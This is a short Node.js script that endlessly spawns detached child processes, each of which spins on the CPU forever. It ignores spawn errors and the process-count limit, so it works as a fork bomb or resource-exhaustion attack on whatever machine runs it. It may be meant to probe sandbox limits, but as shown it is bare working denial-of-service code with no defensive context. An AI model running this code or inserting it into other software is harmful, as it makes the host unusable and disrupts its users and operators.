// Spawn forever: detached children that spin; failures ignored.
const cp = require("child_process");
for (;;) {
    try {
        cp.spawn("/usr/bin/node", ["-e", "for(;;){}"], { stdio: "ignore", detached: true }).on("error", () => {});
    } catch (e) {
        // the pids limit
    }
    const until = Date.now() + 5;
    while (Date.now() < until) {
        // spin
    }
}
